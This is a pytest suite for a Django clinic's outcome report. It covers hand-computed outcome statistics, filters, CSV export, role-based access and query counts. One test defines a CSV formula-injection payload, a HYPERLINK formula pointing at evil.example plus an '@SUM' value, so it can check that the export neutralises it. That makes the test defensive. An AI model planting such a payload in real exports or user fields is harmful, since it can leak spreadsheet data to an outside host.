"""The clinic's outcome report against a small data set whose numbers are worked out by
hand below, the verdict edges at report level, the CSV, access and query counts."""

import csv
import datetime
import io
import re
from html import unescape

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from assessments import measures
from assessments.models import Measurement, WorkingDiagnosis
from clinic.models import EpisodeOfCare, Visit
from tests.factories import EpisodeFactory, PatientFactory, UserFactory, VisitFactory
from treatments.models import AdverseEvent, DeliveredIntervention
from treatments.reports import GroupBy, ReportFilters, outcome_report, report_cells

pytestmark = pytest.mark.django_db

START = timezone.make_aware(datetime.datetime(2025, 1, 6, 10, 0))
UNITS = {"nprs": "points", "odi": "%", "lefs": "points", "psfs": "points"}


def _episode(physio, *, status="open", diagnoses=(), visits=(), opened_on=None):
    """`visits`: one dict per visit of scores and intervention kinds, e.g.
    {"nprs": 8, "kinds": ["dry_needling"], "adverse": ["dry_needling"], "removed": [...]}."""
    episode = EpisodeFactory(
        patient=PatientFactory(),
        physio=physio,
        status=status,
        opened_on=opened_on or datetime.date(2025, 1, 6),
        closed_on=datetime.date(2025, 3, 1) if status == "discharged" else None,
    )
    for position, code in enumerate(diagnoses):  # the first is the main diagnosis
        WorkingDiagnosis.objects.create(
            episode=episode,
            source_code=code,
            is_main=position == 0,
            confirmed_by=physio,
            confirmed_at=START,
        )
    for number, spec in enumerate(visits):
        visit = VisitFactory(
            episode=episode,
            practitioner=physio,
            starts_at=START + datetime.timedelta(days=7 * number),
            kind="initial" if number == 0 else "follow_up",
        )
        for code in UNITS:
            if code in spec:
                Measurement.objects.create(
                    patient=episode.patient,
                    episode=episode,
                    visit=visit,
                    measure_code=code,
                    value=spec[code],
                    unit=UNITS[code],
                    scoring_version="1",
                    scored_at=visit.starts_at,
                )
        for kind in [*spec.get("kinds", []), *spec.get("removed", [])]:
            intervention = DeliveredIntervention.objects.create(
                visit=visit,
                kind=kind,
                recorded_by=physio,
                removed_at=START if kind in spec.get("removed", []) else None,
            )
            if kind in spec.get("adverse", []):
                AdverseEvent.objects.create(
                    intervention=intervention,
                    event_type="Soreness",
                    severity="mild",
                    action_taken="Advice",
                    recorded_by=physio,
                )
    return episode


@pytest.fixture
def clinic(physio, other_physio):
    """Five episodes; the expected numbers in the tests are computed from these by hand."""
    e1 = _episode(
        physio,
        status="discharged",
        diagnoses=["sij"],
        visits=[
            {"nprs": 8, "odi": 40},
            {"nprs": 6, "kinds": ["dry_needling", "stretching"], "adverse": ["dry_needling"]},
            {"nprs": 4, "odi": 30, "kinds": ["dry_needling"]},
        ],
    )
    e2 = _episode(
        physio,
        status="discharged",
        diagnoses=["sij", "piriformis_syndrome"],
        visits=[
            {"nprs": 5, "odi": 20},
            # a removed intervention: neither its kind nor its adverse event counts
            {"kinds": ["stretching"], "removed": ["spinal_manipulation"]},
            {"adverse": ["spinal_manipulation"], "removed": ["spinal_manipulation"]},
            {"nprs": 4, "odi": 14},
        ],
    )
    e3 = _episode(
        other_physio,
        diagnoses=["piriformis_syndrome"],
        visits=[
            {"nprs": 3, "lefs": 40},
            {"nprs": 2, "lefs": 49, "kinds": ["dry_needling"], "adverse": ["dry_needling"]},
        ],
    )
    e4 = _episode(other_physio, visits=[{"nprs": 6, "psfs": 3.0}])  # baseline only
    e5 = _episode(
        other_physio,
        status="discharged",
        diagnoses=["lumbar_referred"],
        visits=[
            {"nprs": 4, "psfs": 3.8},
            {"nprs": 6, "psfs": 5.8, "kinds": ["education"], "adverse": ["education"]},
        ],
    )
    # A withdrawn diagnosis puts the episode in no diagnosis group, even one that was the
    # main diagnosis when it was withdrawn.
    WorkingDiagnosis.objects.create(
        episode=e5,
        source_code="sij",
        is_main=True,
        confirmed_by=other_physio,
        confirmed_at=START,
        withdrawn_at=START,
    )
    return {"e1": e1, "e2": e2, "e3": e3, "e4": e4, "e5": e5}


def _rows(group_by: GroupBy, **filters) -> dict[str, list[str]]:
    report = outcome_report(group_by=group_by, filters=ReportFilters(**filters))
    return {row.key: report_cells(row) for row in report.rows}


# Columns: label, episodes, then for NPRS, ODI, LEFS, PSFS each: n, mean baseline, mean
# latest, mean change, % reaching important improvement; median visits to discharge,
# adverse events.
BLANK = ["0", "", "", "", ""]


def test_by_diagnosis_hand_computed(clinic):
    rows = _rows(GroupBy.DIAGNOSIS)
    assert list(rows) == ["lumbar_referred", "sij", "piriformis_syndrome", "all"]
    # sij: E1 (NPRS 8→4, ODI 40→30, 3 visits) and E2 (NPRS 5→4, ODI 20→14, 4 visits).
    # NPRS: means 6.5 → 4, change (−4 −1)/2 = −2.5; E1 improves (4 ≥ 2), E2 does not
    # (1 < 2 and 1 < 30 % of 5): 50 %. ODI: 30 → 22, change −8; E1 by 10 points, E2 by
    # 6 = 30 % of 20 exactly: 100 %. Median of 3 and 4 visits: 3.5. Adverse events: E1's
    # one (E2's belongs to a removed intervention).
    assert rows["sij"] == [
        "Sacroiliac joint",
        "2",
        *["2", "6.5", "4", "-2.5", "50"],
        *["2", "30", "22", "-8", "100"],
        *BLANK,
        *BLANK,
        "3.5",
        "1",
    ]
    # piriformis: E3 only (NPRS 3→2: 1 ≥ 30 % of 3, an improvement; LEFS 40→49: +9); E2
    # has it as a differential, and counts under its main diagnosis alone.
    assert rows["piriformis_syndrome"] == [
        "Piriformis syndrome",
        "1",
        *["1", "3", "2", "-1", "100"],
        *BLANK,
        *["1", "40", "49", "9", "100"],
        *BLANK,
        "",  # E3 is not discharged
        "1",
    ]
    # lumbar: E5 only (its withdrawn sij does not count there). NPRS 4→6 is worse; PSFS
    # 3.8→5.8 is +2 exactly (a float 1.9999999999999996 in the database): improvement.
    assert rows["lumbar_referred"] == [
        "Referred pain from the lumbar spine",
        "1",
        *["1", "4", "6", "2", "0"],
        *BLANK,
        *BLANK,
        *["1", "3.8", "5.8", "2", "100"],
        "2",
        "1",
    ]
    # All five episodes, each once. NPRS over E1, E2, E3, E5 (E4 has a baseline only):
    # (8+5+3+4)/4 = 5 → (4+4+2+6)/4 = 4, change −1, E1 and E3 improve: 50 %.
    # Median visits of discharged E1, E2, E5 (3, 4, 2): 3. Adverse events: 3.
    assert rows["all"] == [
        "All episodes",
        "5",
        *["4", "5", "4", "-1", "50"],
        *["2", "30", "22", "-8", "100"],
        *["1", "40", "49", "9", "100"],
        *["1", "3.8", "5.8", "2", "100"],
        "3",
        "3",
    ]


def test_an_episode_counts_under_the_main_diagnosis_the_physio_marked(client_for, physio):
    """Piriformis syndrome marked as the main diagnosis, trigger points as a differential
    (the list shows trigger points first): the report has the episode under piriformis
    syndrome only."""
    episode = _episode(physio, visits=[{"nprs": 7}, {"nprs": 3}])
    client_for(physio).post(
        reverse("assessments:working_diagnosis_confirm", args=[episode.pk]),
        {
            "source": ["myofascial_trigger_points", "piriformis_syndrome"],
            "main": "piriformis_syndrome",
        },
    )
    rows = _rows(GroupBy.DIAGNOSIS)
    assert list(rows) == ["piriformis_syndrome", "all"]
    assert rows["piriformis_syndrome"][:7] == [
        "Piriformis syndrome",
        "1",
        "1",
        "7",
        "3",
        "-4",
        "100",
    ]


def test_by_intervention_counts_episodes_with_the_kind_and_its_adverse_events(clinic):
    rows = _rows(GroupBy.INTERVENTION)
    # A removed spinal manipulation makes no group.
    assert list(rows) == ["dry_needling", "stretching", "education", "all"]
    # Dry needling: E1 (8→4) and E3 (3→2): 5.5 → 3, both improve; median of E1's 3
    # visits; adverse events after dry needling: 2.
    assert rows["dry_needling"][:7] == ["Dry needling", "2", "2", "5.5", "3", "-2.5", "100"]
    assert rows["dry_needling"][-2:] == ["3", "2"]
    # Stretching: E1 and E2, no adverse event after stretching.
    assert rows["stretching"][:7] == ["Stretching", "2", "2", "6.5", "4", "-2.5", "50"]
    assert rows["stretching"][-2:] == ["3.5", "0"]
    assert rows["education"][-2:] == ["2", "1"]


def test_by_physio(clinic, physio, other_physio):
    rows = _rows(GroupBy.PHYSIO)
    assert list(rows) == [str(physio.pk), str(other_physio.pk), "all"]
    assert rows[str(physio.pk)][:7] == ["Priya Shah", "2", "2", "6.5", "4", "-2.5", "50"]
    # Tom Reed: E3, E4, E5; NPRS over E3 and E5: (3+4)/2 = 3.5 → (2+6)/2 = 4.
    assert rows[str(other_physio.pk)][:7] == ["Tom Reed", "3", "2", "3.5", "4", "0.5", "50"]
    assert rows[str(other_physio.pk)][-2:] == ["2", "2"]


def test_filters(clinic, physio):
    rows = _rows(GroupBy.DIAGNOSIS, intervention="dry_needling")
    assert {key: row[1] for key, row in rows.items()} == {
        "sij": "1",
        "piriformis_syndrome": "1",
        "all": "2",
    }
    rows = _rows(GroupBy.DIAGNOSIS, diagnosis="sij", status="discharged")
    assert rows["all"][1] == "2"
    assert "piriformis_syndrome" not in rows  # E2 has it, as a differential only
    rows = _rows(GroupBy.DIAGNOSIS, diagnosis="piriformis_syndrome")
    assert rows["all"][1] == "1"  # E3: E2's piriformis syndrome is a differential
    rows = _rows(GroupBy.DIAGNOSIS, physio_id=physio.pk)
    assert rows["all"][1] == "2"
    rows = _rows(GroupBy.DIAGNOSIS, status="open")
    assert rows["all"][1] == "2" and rows["all"][-2] == ""  # nothing discharged
    rows = _rows(GroupBy.DIAGNOSIS, opened_from=datetime.date(2025, 2, 1))
    assert list(rows) == ["all"] and rows["all"][1] == "0"


# Report-level verdict edges: each pair's episode counts as improved exactly when
# measures.verdict says "important improvement".
EDGES = [
    ("nprs", 6, 4),  # −2 points: improvement
    ("nprs", 6, 5),  # −1, 17 %: no
    ("nprs", 3, 2),  # −1 = 33 % of 3: improvement by percent
    ("nprs", 10, 7),  # −3 = 30 % exactly
    ("nprs", 0, 0),  # no change from zero
    ("nprs", 4, 6),  # worse
    ("odi", 50, 40),  # −10 points exactly
    ("odi", 30, 21),  # −9 = 30 % exactly
    ("odi", 30, 21.2),  # −8.8 < 9: no
    ("odi", 40, 30.1),  # −9.9: no
    ("lefs", 40, 49),  # +9 exactly
    ("lefs", 40, 48),  # +8: no
    ("lefs", 49, 40),  # worse
    ("psfs", 3.8, 5.8),  # +2 (float 1.9999999999999996)
    ("psfs", 4.1, 6.09),  # +1.99: no
    ("psfs", 2.2, 4.2),  # +2
]


@pytest.mark.parametrize(("code", "baseline", "latest"), EDGES)
def test_improvement_in_sql_agrees_with_the_verdict(physio, code, baseline, latest):
    _episode(physio, visits=[{code: baseline}, {code: latest}])
    cells = _rows(GroupBy.PHYSIO)["all"]
    column = 2 + 5 * ["nprs", "odi", "lefs", "psfs"].index(code)
    assert cells[column] == "1"
    expected = measures.verdict(code, baseline, latest) == measures.IMPORTANT_IMPROVEMENT
    assert cells[column + 4] == ("100" if expected else "0")


# --- Pages -----------------------------------------------------------------------------


def _table(html: str, table_id: str) -> list[list[str]]:
    table = re.search(rf'<table[^>]*id="{table_id}".*?</table>', html, re.S).group(0)
    rows = []
    for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table, re.S):
        cells = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
        rows.append([unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in cells])
    return rows


def test_csv_is_exactly_the_table(client_for, clinic_admin, clinic):
    """The page's cells are the CSV's; the page heads each measure's columns with its name
    (issue 11: the table fits a laptop's width)."""
    client = client_for(clinic_admin)
    query = "?group_by=intervention&status=discharged"
    page = client.get(reverse("treatments:outcome_report") + query).content.decode()
    header, measure_header, *shown = _table(page, "outcome-report")
    response = client.get(reverse("treatments:outcome_report_csv") + query)
    assert response["Content-Type"].startswith("text/csv")
    exported = list(csv.reader(io.StringIO(response.content.decode())))
    assert exported[1:] == shown
    assert exported[0][0] == "Intervention"
    assert header == [*exported[0][:2], "NPRS", "ODI", "LEFS", "PSFS", *exported[0][-2:]]
    assert measure_header == ["n", "Baseline → latest", "Change", "Improved %"] * 4
    assert [row[0] for row in exported[1:]] == [
        "Dry needling",
        "Stretching",
        "Education",
        "All episodes",
    ]


EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Details")'


def test_a_formula_in_a_group_name_is_exported_as_text(client_for, clinic_admin):
    """A physio's name is a group label; typed as a formula, the CSV neutralises it (OWASP:
    a leading apostrophe) while a negative change stays a number (issue 10, part 7)."""
    evil = UserFactory(username="evil", first_name=EVIL, last_name="@SUM(1+1)")
    _episode(evil, visits=[{"nprs": 8}, {"nprs": 4.5}])

    response = client_for(clinic_admin).get(
        reverse("treatments:outcome_report_csv"), {"group_by": "physio"}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    by_label = {row[0]: row for row in rows[1:]}
    assert f"'{EVIL} @SUM(1+1)" in by_label
    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row)
    change = rows[0].index("NPRS mean change")
    assert by_label[f"'{EVIL} @SUM(1+1)"][change] == "-3.5"


def test_report_page_has_charts_tabs_and_links_to_each_group(client_for, clinic_admin, clinic):
    client = client_for(clinic_admin)
    page = client.get(reverse("treatments:outcome_report"), {"intervention": "dry_needling"})
    html = page.content.decode()
    assert "<svg" in html and "<title" in html
    assert "By intervention" in html and "By physio" in html
    link = re.search(r'href="([^"]*outcomes/episodes/[^"]*key=sij[^"]*)"', html).group(1)
    episodes = client.get(unescape(link))
    assert episodes.status_code == 200
    rows = _table(episodes.content.decode(), "group-episodes")
    # The filter (dry needling) holds on the group's page: E1 only of the sij episodes.
    assert len(rows) == 2
    patient = clinic["e1"].patient
    assert rows[1][0].startswith(patient.full_name)
    assert rows[1][3:] == ["Priya Shah", "Sacroiliac joint (main)", "8 → 4", "Discharged"]


def test_unknown_group_is_a_404(client_for, clinic_admin):
    url = reverse("treatments:outcome_episodes")
    assert client_for(clinic_admin).get(url, {"key": "nonsense"}).status_code == 404


@pytest.mark.parametrize(
    "name",
    ["treatments:outcome_report", "treatments:outcome_report_csv", "treatments:outcome_episodes"],
)
def test_only_the_clinic_admin_sees_outcome_reports(
    client, name, physio, clinic_admin, front_desk, no_role_user
):
    url = reverse(name) + "?key=all"
    assert client.get(url).status_code == 302  # to the login page
    for user, status in (
        (physio, 403),
        (front_desk, 403),
        (no_role_user, 403),
        (clinic_admin, 200),
    ):
        client.force_login(user)
        assert client.get(url).status_code == status, (name, user.username)


def test_nav_item_for_the_clinic_admin_only(client_for, clinic_admin, physio):
    assert "Outcomes</a>" in client_for(clinic_admin).get(reverse("clinic:home")).content.decode()
    assert "Outcomes</a>" not in client_for(physio).get(reverse("clinic:home")).content.decode()


def _bulk_clinic(episodes: int, physios) -> None:
    """Many episodes quickly (bulk_create), each with three visits, scores, a diagnosis
    and an intervention."""
    patients = PatientFactory.create_batch(episodes)
    rows = EpisodeOfCare.objects.bulk_create(
        EpisodeOfCare(
            patient=patient,
            physio=physios[n % len(physios)],
            complaint="Buttock pain",
            opened_on=datetime.date(2025, 1, 6),
            status="discharged" if n % 2 else "open",
        )
        for n, patient in enumerate(patients)
    )
    visits = Visit.objects.bulk_create(
        Visit(
            episode=episode,
            practitioner=episode.physio,
            starts_at=START + datetime.timedelta(days=d),
        )
        for episode in rows
        for d in (0, 7, 14)
    )
    Measurement.objects.bulk_create(
        Measurement(
            patient_id=visit.episode.patient_id,
            episode=visit.episode,
            visit=visit,
            measure_code=code,
            value=value,
            unit="points",
            scoring_version="1",
            scored_at=visit.starts_at,
        )
        for visit in visits
        for code, value in (("nprs", 5), ("lefs", 40))
    )
    WorkingDiagnosis.objects.bulk_create(
        WorkingDiagnosis(
            episode=episode,
            source_code="sij",
            is_main=True,
            confirmed_by=episode.physio,
            confirmed_at=START,
        )
        for episode in rows
    )
    DeliveredIntervention.objects.bulk_create(
        DeliveredIntervention(visit=visit, kind="stretching", recorded_by=visit.practitioner)
        for visit in visits
    )


@pytest.mark.parametrize("group_by", ["diagnosis", "intervention", "physio"])
def test_report_queries_do_not_grow_with_the_episodes(
    client_for, clinic_admin, physio, other_physio, group_by
):
    client = client_for(clinic_admin)
    counts = []
    for total, added in ((10, 10), (200, 190)):
        _bulk_clinic(added, [physio, other_physio])
        assert EpisodeOfCare.objects.count() == total
        for name in ("outcome_report", "outcome_report_csv", "outcome_episodes"):
            with CaptureQueriesContext(connection) as queries:
                response = client.get(
                    reverse(f"treatments:{name}"), {"group_by": group_by, "key": "all"}
                )
            assert response.status_code == 200
            counts.append((name, len(queries)))
    assert counts[:3] == counts[3:]
    assert dict(counts[:3])["outcome_report"] <= 15, counts


# --- The per-episode rows the report reads ---------------------------------------------


def test_report_follows_assessments_and_interventions_saved_through_the_services(physio):
    """The report reads per-episode summaries: what the physio saves shows at once, and a
    correction or a removal changes it."""
    from assessments import services as assessment_services
    from assessments.buttock_pain import BUTTOCK_PAIN_V1
    from treatments import services
    from treatments.kinds import defaults

    episode = EpisodeFactory(physio=physio, opened_on=datetime.date(2025, 1, 6))
    visits = [
        VisitFactory(
            episode=episode, practitioner=physio, starts_at=START + datetime.timedelta(weeks=n)
        )
        for n in range(3)
    ]

    def save(visit, nprs):
        assessment_services.assessment_save(
            visit=visit, template=BUTTOCK_PAIN_V1, user=physio, answers={"nprs": {"nprs": nprs}}
        )

    save(visits[0], 7)
    education = services.intervention_record(
        visit=visits[1], user=physio, kind_code="education", params=defaults("education")
    )
    save(visits[2], 6)
    rows = _rows(GroupBy.INTERVENTION)
    assert list(rows) == ["education", "all"]
    assert rows["education"][:7] == ["Education", "1", "1", "7", "6", "-1", "0"]
    save(visits[2], 4)  # corrected: 7 → 4 is an important improvement
    assert _rows(GroupBy.INTERVENTION)["education"][:7] == [
        "Education", "1", "1", "7", "4", "-3", "100"
    ]  # fmt: skip
    services.intervention_remove(intervention=education, user=physio)
    rows = _rows(GroupBy.INTERVENTION)
    assert list(rows) == ["all"]
    assert rows["all"][:7] == ["All episodes", "1", "1", "7", "4", "-3", "100"]
    assert _rows(GroupBy.INTERVENTION, intervention="education")["all"][1] == "0"


def test_bulk_loaded_rows_count_once_rebuilt(physio, other_physio):
    """bulk_create sends no signal: a bulk loader rebuilds the per-episode rows, as the
    demo seeders and the benchmark's COPY do."""
    from assessments.summaries import rebuild_summaries
    from treatments.summaries import rebuild_intervention_kinds

    _bulk_clinic(4, [physio, other_physio])
    assert _rows(GroupBy.INTERVENTION)["all"][2] == "0"  # no summaries yet
    rebuild_summaries()
    rebuild_intervention_kinds()
    rows = _rows(GroupBy.INTERVENTION)
    assert list(rows) == ["stretching", "all"]
    # Four episodes, NPRS 5 → 5 and LEFS 40 → 40 over three visits; two discharged.
    assert rows["stretching"][1:] == rows["all"][1:]  # every episode had stretching
    assert rows["all"] == [
        "All episodes",
        "4",
        *["4", "5", "5", "0", "0"],
        *BLANK,
        *["4", "40", "40", "0", "0"],
        *BLANK,
        "3",
        "0",
    ]


@pytest.mark.parametrize(
    "group_by, says",
    [
        ("diagnosis", 'an episode with no main diagnosis confirmed counts in "All episodes" only'),
        ("intervention", "An episode may count in several groups"),
        ("physio", "Each episode counts in one group."),
    ],
)
def test_the_footnote_says_how_the_groups_count_episodes(client_for, clinic_admin, group_by, says):
    """A tester added up the rows by main diagnosis and missed three episodes: those with no
    main diagnosis yet are in no row, and the footnote said every episode was in one."""
    page = client_for(clinic_admin).get(
        reverse("treatments:outcome_report"), {"group_by": group_by}
    )
    assert says in unescape(page.content.decode())
